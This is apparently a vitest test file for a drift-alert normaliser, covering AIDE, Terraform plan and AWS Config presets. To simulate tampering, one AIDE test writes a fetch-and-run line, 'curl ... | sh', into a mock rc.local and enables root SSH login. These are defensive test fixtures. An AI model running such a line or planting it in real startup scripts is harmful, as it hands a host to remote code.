import { spawnSync } from 'node:child_process';
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { DEFAULT_FINGERPRINT_FIELDS, fingerprint } from '../../src/core/fingerprint.js';
import { describeAnyInput, everything, expectWellFormed, fixture, intake, pathsOf, replaced, type Json } from '../helpers/presets.js';
import { requireProgram } from '../../bench/programs/installed.js';

const RECEIVED_AT = Date.parse('2026-11-23T04:00:00Z');


describe('aide preset, with the real AIDE', () => {
  const aide = requireProgram('aide', 'aide');
  let dir = '';
  let initReport = { status: null as number | null, report: {} as Json };
  const run = (...args: string[]) => {
    const result = spawnSync(aide, ['--config', join(dir, 'aide.conf'), ...args], { encoding: 'utf8' });
    if (result.error !== undefined) throw result.error;
    return { status: result.status, report: JSON.parse(readFileSync(join(dir, 'report.json'), 'utf8')) as Json };
  };
  const promote = () => renameSync(join(dir, 'aide.db.new.gz'), join(dir, 'aide.db.gz'));
  const connector = () => intake('aide-web-1', 'aide', { mapping: { asset: { value: 'web-1' } } });

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'recurd-aide-'));
    mkdirSync(join(dir, 'etc'));
    writeFileSync(join(dir, 'etc', 'sshd_config'), 'PermitRootLogin no\n');
    writeFileSync(join(dir, 'etc', 'motd'), 'authorised use only\n');
    // report_format must stand before report_url, or the report is plain text (TESTING.md).
    writeFileSync(
      join(dir, 'aide.conf'),
      [
        `database_in=file:${join(dir, 'aide.db.gz')}`,
        `database_out=file:${join(dir, 'aide.db.new.gz')}`,
        'report_format=json',
        `report_url=file:${join(dir, 'report.json')}`,
        // Regular files only: a directory's size depends on the file system under the test.
        `${join(dir, 'etc')} f p+u+g+s+sha256`,
        '',
      ].join('\n'),
    );
    initReport = run('--init');
    promote();
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('refuses the report of --init, which checks nothing, by the field that says so', () => {
    expect(initReport.status).toBe(0);
    expect(connector().normalise(initReport.report, RECEIVED_AT)).toEqual({
      alerts: [],
      errors: [
        { path: 'outline', message: 'status: is "AIDE successfully initialized database.", not one of "firing", "resolved" after mapping' },
      ],
    });
  });

  it('fires on a check that finds differences and resolves on a clean check after the baseline is updated', () => {
    appendFileSync(join(dir, 'etc', 'sshd_config'), 'PermitRootLogin yes\n');
    writeFileSync(join(dir, 'etc', 'rc.local'), 'curl http://203.0.113.9/x | sh\n');
    unlinkSync(join(dir, 'etc', 'motd'));
    const dirty = run('--check');
    expect(dirty.status).not.toBe(0);
    const start = String(dirty.report.start_time).replace(/^(\S+) (\S+) ([+-]\d\d)(\d\d)$/, '$1T$2$3:$4');
    const end = String(dirty.report.end_time).replace(/^(\S+) (\S+) ([+-]\d\d)(\d\d)$/, '$1T$2$3:$4');
    expect(connector().normalise(dirty.report, RECEIVED_AT)).toEqual({
      alerts: [
        {
          id: start,
          source: 'aide-web-1',
          family: 'config-drift',
          status: 'firing',
          observedAt: Date.parse(start),
          asset: 'web-1',
          check: 'aide',
          message: 'AIDE found differences between database and filesystem!!',
          severity: 'medium',
          control: 'A.8.9',
          labels: { aide_version: expect.stringMatching(/^0\.\d+/) as unknown },
          evidence: {
            startTime: start,
            endTime: end,
            entries: { total: 2, added: 1, removed: 1, changed: 1 },
            added: { [join(dir, 'etc', 'rc.local')]: expect.stringMatching(/^f\++$/) as unknown },
            removed: { [join(dir, 'etc', 'motd')]: expect.stringMatching(/^f-+$/) as unknown },
            changed: { [join(dir, 'etc', 'sshd_config')]: expect.stringMatching(/^f/) as unknown },
            details: {
              [join(dir, 'etc', 'sshd_config')]: {
                size: { old: 19, new: 39 },
                sha256: { old: expect.any(String) as unknown, new: expect.any(String) as unknown },
              },
            },
            databases: { [join(dir, 'aide.db.gz')]: expect.any(Object) as unknown },
          },
        },
      ],
      errors: [],
    });

    // The reviewed changes become the baseline; the next check finds nothing.
    run('--update');
    promote();
    const clean = run('--check');
    expect(clean.status).toBe(0);
    const [resolved] = connector().normalise(clean.report, RECEIVED_AT).alerts;
    expect(resolved).toMatchObject({
      status: 'resolved',
      asset: 'web-1',
      check: 'aide',
      message: 'AIDE found NO differences between database and filesystem. Looks okay!!',
      evidence: { entries: { total: 2 } },
    });
    expect(resolved?.evidence).not.toHaveProperty('changed');
  });

  it('gives valid alerts or errors with a path whatever replaces any part of a real report', () => {
    const { report } = run('--check');
    const connector = intake('aide', 'aide');
    fc.assert(
      fc.property(fc.constantFrom(...pathsOf(report)), everything, (path, value) => {
        expectWellFormed(connector.normalise(replaced(report, path, value), RECEIVED_AT));
      }),
      { numRuns: 200 },
    );
  });

  it('names the missing run time of a report by its field', () => {
    const report = { ...run('--check').report };
    delete report.start_time;
    expect(connector().normalise(report, RECEIVED_AT)).toEqual({
      alerts: [],
      errors: [
        { path: 'start_time', message: 'id: missing' },
        { path: 'start_time', message: 'observedAt: missing' },
      ],
    });
  });
});

describe('terraform-plan preset, on plans from Terraform’s own tests', () => {
  const connector = intake('terraform-prod', 'terraform-plan');
  const provider = 'registry.terraform.io/hashicorp/tfcoremock';

  it('fires for the drifted resource of a plan', () => {
    expect(connector.normalise(fixture('terraform/drift_simple.plan.json'), RECEIVED_AT)).toEqual({
      alerts: [
        {
          id: 'tfcoremock_simple_resource.drift@2023-05-25T07:35:17Z',
          source: 'terraform-prod',
          family: 'config-drift',
          status: 'firing',
          observedAt: Date.parse('2023-05-25T07:35:17Z'),
          asset: 'tfcoremock_simple_resource.drift',
          check: 'tfcoremock_simple_resource',
          message: 'tfcoremock_simple_resource.drift changed outside Terraform (update)',
          severity: 'medium',
          control: 'A.8.9',
          labels: { provider, action: 'update' },
          evidence: { planTimestamp: '2023-05-25T07:35:17Z', timedAt: 'plan', actions: ['update'], changedAttributes: ['string'] },
        },
      ],
      errors: [],
    });
  });

  it('resolves every other managed resource the plan refreshed, and never keeps attribute values', () => {
    const { alerts, errors } = connector.normalise(fixture('terraform/drift_relevant_attributes.plan.json'), RECEIVED_AT);
    expect(errors).toEqual([]);
    expect(alerts).toEqual([
      expect.objectContaining({
        id: 'tfcoremock_simple_resource.base@2023-05-25T07:35:15Z',
        status: 'firing',
        asset: 'tfcoremock_simple_resource.base',
        evidence: { planTimestamp: '2023-05-25T07:35:15Z', timedAt: 'plan', actions: ['update'], changedAttributes: ['number', 'string'] },
      }),
      {
        id: 'tfcoremock_simple_resource.dependent@2023-05-25T07:35:15Z',
        source: 'terraform-prod',
        family: 'config-drift',
        status: 'resolved',
        observedAt: Date.parse('2023-05-25T07:35:15Z'),
        asset: 'tfcoremock_simple_resource.dependent',
        check: 'tfcoremock_simple_resource',
        message: 'tfcoremock_simple_resource.dependent matches its Terraform state',
        severity: 'medium',
        control: 'A.8.9',
        labels: { provider },
        evidence: { planTimestamp: '2023-05-25T07:35:15Z', timedAt: 'plan' },
      },
    ]);
    expect(JSON.stringify(alerts)).not.toContain('Hello, drift!');
  });

  it('resolves the resources of a plan without drift', () => {
    const { alerts, errors } = connector.normalise(fixture('terraform/basic_list_update.plan.json'), RECEIVED_AT);
    expect(errors).toEqual([]);
    expect(alerts.map(({ id, status, asset }) => ({ id, status, asset }))).toEqual([
      { id: 'tfcoremock_list.list@2023-05-25T07:34:52Z', status: 'resolved', asset: 'tfcoremock_list.list' },
    ]);
  });

  it('gives only the drift of a plan that errored: it did not compare everything', () => {
    const plan = { ...fixture('terraform/drift_relevant_attributes.plan.json'), errored: true };
    expect(connector.normalise(plan, RECEIVED_AT).alerts.map((alert) => [alert.asset, alert.status])).toEqual([
      ['tfcoremock_simple_resource.base', 'firing'],
    ]);
  });

  it('times a plan without timestamp (Terraform before 1.5, format 1.0) at its arrival, which also names its run', () => {
    // Terraform's golden `show -json` output (format 1.0) has no timestamp.
    const { alerts, errors } = connector.normalise(fixture('terraform/show-json-drift.output.json'), RECEIVED_AT);
    expect(errors).toEqual([]);
    const arrival = new Date(RECEIVED_AT).toISOString();
    expect(alerts.length).toBeGreaterThan(0);
    expect(alerts.filter((alert) => alert.status === 'firing')).toHaveLength(1);
    for (const alert of alerts) {
      expect(alert).toMatchObject({ observedAt: RECEIVED_AT, id: `${alert.asset}@${arrival}`, evidence: expect.objectContaining({ timedAt: 'arrival' }) as unknown });
    }
    // The same plan with its timestamp is timed by it.
    const stamped = connector.normalise(fixture('terraform/drift_simple.plan.json'), RECEIVED_AT).alerts;
    expect(stamped[0]?.evidence).toMatchObject({ timedAt: 'plan' });
    expect(stamped[0]?.observedAt).not.toBe(RECEIVED_AT);
  });

  it('names a plan timestamp before 2000, or a number of no stated unit, once', () => {
    const plan = fixture('terraform/drift_simple.plan.json');
    expect(connector.normalise({ ...plan, timestamp: '1970-01-01T00:00:00Z' }, RECEIVED_AT)).toEqual({
      alerts: [],
      errors: [{ path: 'timestamp', message: 'observedAt: is "1970-01-01T00:00:00Z" (1970-01-01T00:00:00.000Z), before the year 2000: not a plausible event time' }],
    });
    expect(connector.normalise({ ...plan, timestamp: 1685000117 }, RECEIVED_AT)).toEqual({
      alerts: [],
      errors: [{ path: 'timestamp', message: "observedAt: is 1685000117: a numeric time needs unit: s or unit: ms in the mapping's observedAt" }],
    });
  });
});

describe('aws-config preset, on EventBridge events captured from AWS Config', () => {
  const connector = intake('aws-config', 'aws-config');
  const nonCompliant = fixture('aws-config/non-compliant.eventbridge.json');
  const rule = 'cw-loggroup-retention-period-check-conformance-pack-qayjyopmd';

  it('fires on NON_COMPLIANT', () => {
    expect(connector.normalise(nonCompliant, RECEIVED_AT)).toEqual({
      alerts: [
        {
          id: '1cccd43c-e7dc-a6be-4034-612ef2d862d5',
          source: 'aws-config',
          family: 'config-drift',
          status: 'firing',
          observedAt: Date.parse('2021-11-01T06:45:35.797Z'),
          asset: 'dev1',
          check: rule,
          message: `AWS::Logs::LogGroup dev1 is NON_COMPLIANT with ${rule}: retentionInDays is less than MinRetentionTime 545 days. Current retentionInDays: 30 days`,
          severity: 'medium',
          control: 'A.8.9',
          labels: { account: '746869318262', region: 'ap-southeast-2', resource_type: 'AWS::Logs::LogGroup' },
          evidence: {
            eventId: '1cccd43c-e7dc-a6be-4034-612ef2d862d5',
            eventTime: '2021-11-01T06:45:52Z',
            configRuleArn:
              'arn:aws:config:ap-southeast-2:746869318262:config-rule/aws-service-rule/config-conforms.amazonaws.com/config-rule-vlxixs',
            annotation: 'retentionInDays is less than MinRetentionTime 545 days. Current retentionInDays: 30 days',
            resultRecordedTime: '2021-11-01T06:45:51.716Z',
            previousComplianceType: 'COMPLIANT',
            notificationCreationTime: '2021-11-01T06:45:52.018Z',
          },
        },
      ],
      errors: [],
    });
  });

  it('resolves on COMPLIANT', () => {
    const { alerts, errors } = connector.normalise(fixture('aws-config/compliant.eventbridge.json'), RECEIVED_AT);
    expect(errors).toEqual([]);
    expect(alerts).toEqual([
      expect.objectContaining({
        id: 'f0eae78e-0ccc-4079-a509-206fca99c4fc',
        status: 'resolved',
        observedAt: Date.parse('2021-11-23T11:04:51.916Z'),
        asset: 'NZISM-ComplianceDispatcher',
        check: 'lambda-function-public-access-prohibited-conformance-pack-qayjyopmd',
        message: 'AWS::Lambda::Function NZISM-ComplianceDispatcher is COMPLIANT with lambda-function-public-access-prohibited-conformance-pack-qayjyopmd',
      }),
    ]);
  });

  it('names a missing or undecided compliance type by its path', () => {
    const detail = nonCompliant.detail as Json;
    const evaluation = detail.newEvaluationResult as Json;
    const without = { ...nonCompliant, detail: { ...detail, newEvaluationResult: { ...evaluation, complianceType: undefined } } };
    expect(connector.normalise(without, RECEIVED_AT).errors).toEqual([
      { path: 'detail.newEvaluationResult.complianceType', message: 'status: missing' },
    ]);
    const undecided = { ...nonCompliant, detail: { ...detail, newEvaluationResult: { ...evaluation, complianceType: 'INSUFFICIENT_DATA' } } };
    expect(connector.normalise(undecided, RECEIVED_AT).errors).toEqual([
      {
        path: 'detail.newEvaluationResult.complianceType',
        message: 'status: is "INSUFFICIENT_DATA", not one of "firing", "resolved" after mapping',
      },
    ]);
  });

  it('names an evaluation time before 2000 by its path', () => {
    const detail = nonCompliant.detail as Json;
    const evaluation = detail.newEvaluationResult as Json;
    const identifier = evaluation.evaluationResultIdentifier as Json;
    for (const [orderingTimestamp, shown] of [
      ['1970-01-01T00:00:00Z', '"1970-01-01T00:00:00Z" (1970-01-01T00:00:00.000Z)'],
      ['1999-12-31T23:59:59Z', '"1999-12-31T23:59:59Z" (1999-12-31T23:59:59.000Z)'],
    ]) {
      const event = { ...nonCompliant, detail: { ...detail, newEvaluationResult: { ...evaluation, evaluationResultIdentifier: { ...identifier, orderingTimestamp } } } };
      expect(connector.normalise(event, RECEIVED_AT).errors).toEqual([
        {
          path: 'detail.newEvaluationResult.evaluationResultIdentifier.orderingTimestamp',
          message: `observedAt: is ${shown}, before the year 2000: not a plausible event time`,
        },
      ]);
    }
  });

  it("reads a numeric time where the admin's observedAt says its unit", () => {
    const numeric = { ...nonCompliant, epoch: 1635749135.797 };
    const seconds = intake('aws-config', 'aws-config', { mapping: { observedAt: { path: 'epoch', unit: 's' } } });
    expect(seconds.normalise(numeric, RECEIVED_AT).alerts[0]?.observedAt).toBe(Date.parse('2021-11-01T06:45:35.797Z'));
    const unitless = intake('aws-config', 'aws-config', { mapping: { observedAt: 'epoch' } });
    expect(unitless.normalise(numeric, RECEIVED_AT).errors).toEqual([
      { path: 'epoch', message: "observedAt: is 1635749135.797: a numeric time needs unit: s or unit: ms in the mapping's observedAt" },
    ]);
  });

  it("takes the admin's fields over the preset's one by one, labels merged by name", () => {
    const arn = intake('aws-config', 'aws-config', {
      control: 'A.8.15',
      mapping: { asset: 'detail.configRuleARN', labels: { ordering: 'detail.newEvaluationResult.evaluationResultIdentifier.orderingTimestamp' } },
    });
    const [alert] = arn.normalise(nonCompliant, RECEIVED_AT).alerts;
    expect(alert).toMatchObject({
      asset: 'arn:aws:config:ap-southeast-2:746869318262:config-rule/aws-service-rule/config-conforms.amazonaws.com/config-rule-vlxixs',
      check: rule,
      status: 'firing',
      // The connector's control stands in for the preset's, which the mapping does not set.
      control: 'A.8.15',
      labels: { account: '746869318262', region: 'ap-southeast-2', resource_type: 'AWS::Logs::LogGroup', ordering: '2021-11-01T06:45:35.797Z' },
    });
  });
});

describe('aws-config preset, on SNS deliveries', () => {
  const connector = intake('aws-config', 'aws-config');
  const docsExample = fixture('aws-config/compliant.sns-docs.json');
  const viaSns = fixture('aws-config/non-compliant.eventbridge-via-sns.json');
  /** The fields that make a symptom, plus those a connector receiving from many accounts adds. */
  const identity = [...DEFAULT_FINGERPRINT_FIELDS, 'labels.account', 'labels.region'];
  /** The one alert a document gives, failing the test on any error. */
  const only = (document: unknown) => {
    const { alerts, errors } = connector.normalise(document, RECEIVED_AT);
    expect(errors).toEqual([]);
    expect(alerts).toHaveLength(1);
    return alerts[0] as NonNullable<(typeof alerts)[0]>;
  };

  it("reads AWS's documented compliance notification, its Message shown as an object", () => {
    expect(only(docsExample)).toEqual({
      id: '11fd05dd-47e1-5523-bc01-55b988bb9478',
      source: 'aws-config',
      family: 'config-drift',
      status: 'resolved',
      observedAt: Date.parse('2016-09-27T19:48:40.619Z'),
      asset: '123456789012',
      check: 'cloudtrail-enabled',
      message: 'AWS::::Account 123456789012 is COMPLIANT with cloudtrail-enabled',
      severity: 'medium',
      control: 'A.8.9',
      labels: { account: '123456789012', region: 'us-east-2', resource_type: 'AWS::::Account' },
      evidence: {
        eventId: '11fd05dd-47e1-5523-bc01-55b988bb9478',
        eventTime: '2016-09-27T19:48:42.749Z',
        configRuleArn: 'arn:aws:config:us-east-2:123456789012:config-rule/config-rule-9rpvxc',
        resultRecordedTime: '2016-09-27T19:48:41.405Z',
        previousComplianceType: 'NON_COMPLIANT',
        notificationCreationTime: '2016-09-27T19:48:42.620Z',
        snsTopicArn: 'arn:aws:sns:us-east-2:123456789012:config-topic-ohio',
        snsMessageId: '11fd05dd-47e1-5523-bc01-55b988bb9478',
        snsTimestamp: '2016-09-27T19:48:42.749Z',
      },
    });
  });

  it('reads the same notification with its Message as text, as SNS sends it', () => {
    const asSent = { ...docsExample, Message: JSON.stringify(docsExample.Message) };
    expect(only(asSent)).toEqual(only(docsExample));
  });

  it('reads an EventBridge event that an EventBridge rule published to the topic, Message as text', () => {
    expect(only(viaSns)).toMatchObject({
      id: '7ccbef40-b450-83b8-9295-2ceeccbbe7e0',
      status: 'firing',
      observedAt: Date.parse('2020-04-13T21:47:43.216Z'),
      asset: 'AIDATKWA6GXGSFD4SOEVS',
      check: 'securityhub-iam-user-no-policies-check-791d3b9c',
      message: 'AWS::IAM::User AIDATKWA6GXGSFD4SOEVS is NON_COMPLIANT with securityhub-iam-user-no-policies-check-791d3b9c',
      evidence: expect.objectContaining({
        eventTime: '2020-04-13T21:47:57Z',
        previousComplianceType: 'COMPLIANT',
        snsTopicArn: 'arn:aws:region:account-id:notify-slack-topic',
        snsMessageId: '8c84adf5-c467-58ea-a56f-fafb24340044',
      }) as unknown,
    });
  });

  it('gives an evaluation one symptom whichever way it came', () => {
    // The real SNS delivery, and its own Message posted as EventBridge's API destination would.
    const event = JSON.parse(viaSns.Message as string) as Json;
    expect(fingerprint(only(event), identity)).toBe(fingerprint(only(viaSns), identity));
    // The real EventBridge event's detail is Config's notification: sent to SNS it is the Message.
    const eventBridge = fixture('aws-config/non-compliant.eventbridge.json');
    const notification = { ...docsExample, Message: JSON.stringify(eventBridge.detail) };
    const direct = only(eventBridge);
    const throughSns = only(notification);
    expect({ check: throughSns.check, asset: throughSns.asset, status: throughSns.status, observedAt: throughSns.observedAt }).toEqual({
      check: direct.check,
      asset: direct.asset,
      status: direct.status,
      observedAt: direct.observedAt,
    });
    expect(throughSns.labels).toEqual(direct.labels);
    expect(fingerprint(throughSns, identity)).toBe(fingerprint(direct, identity));
    expect(fingerprint(throughSns)).toBe(fingerprint(direct));
  });

  it('names a Message that is not JSON, or not an object, at Message', () => {
    const cut = { ...viaSns, Message: (viaSns.Message as string).slice(0, 40) };
    const { alerts, errors } = connector.normalise(cut, RECEIVED_AT);
    expect(alerts).toEqual([]);
    expect(errors).toEqual([{ path: 'Message', message: expect.stringMatching(/^is not JSON \(.+\), expected the AWS Config notification as text$/) as unknown }]);
    expect(connector.normalise({ ...viaSns, Message: '42' }, RECEIVED_AT).errors).toEqual([
      { path: 'Message', message: 'is 42, expected the AWS Config notification (an object, or one as JSON text)' },
    ]);
    expect(connector.normalise({ ...viaSns, Message: undefined }, RECEIVED_AT).errors).toEqual([
      { path: 'Message', message: 'missing, expected the AWS Config notification (an object, or one as JSON text)' },
    ]);
  });

  it('refuses subscription and unsubscribe confirmations at Type, so that they are kept with their SubscribeURL', () => {
    for (const [file, type] of [
      ['aws-config/subscription-confirmation.sns.json', 'SubscriptionConfirmation'],
      ['aws-config/unsubscribe-confirmation.sns.json', 'UnsubscribeConfirmation'],
    ] as const) {
      expect(connector.normalise(fixture(file), RECEIVED_AT)).toEqual({
        alerts: [],
        errors: [
          {
            path: 'Type',
            message: `is "${type}", which carries no evaluation: recurd does not confirm SNS subscriptions; open its SubscribeURL, kept in this dead letter, to confirm`,
          },
        ],
      });
    }
    expect(connector.normalise({ ...viaSns, Type: 'Hello' }, RECEIVED_AT).errors).toEqual([{ path: 'Type', message: 'is "Hello", not "Notification"' }]);
  });

  it("skips Config's notifications that carry no evaluation, with Message as text or as an object", () => {
    for (const file of ['aws-config/item-change.sns.json', 'aws-config/evaluation-started.sns-docs.json']) {
      expect(connector.normalise(fixture(file), RECEIVED_AT)).toEqual({ alerts: [], errors: [] });
    }
  });

  it('keeps naming an EventBridge event by its own paths', () => {
    const eventBridge = fixture('aws-config/non-compliant.eventbridge.json');
    const detail = eventBridge.detail as Json;
    expect(connector.normalise({ ...eventBridge, detail: { ...detail, configRuleName: {} } }, RECEIVED_AT).errors).toEqual([
      { path: 'detail.configRuleName', message: 'check: is an object, expected text or a number' },
    ]);
  });
});

describeAnyInput('drift presets', ['aide', 'terraform-plan', 'aws-config'], [
  ['terraform-plan', fixture('terraform/drift_relevant_attributes.plan.json')],
  ['aws-config', fixture('aws-config/non-compliant.eventbridge.json')],
  ['aws-config', fixture('aws-config/non-compliant.eventbridge-via-sns.json')],
  ['aws-config', fixture('aws-config/compliant.sns-docs.json')],
  ['aws-config', fixture('aws-config/item-change.sns.json')],
], RECEIVED_AT);
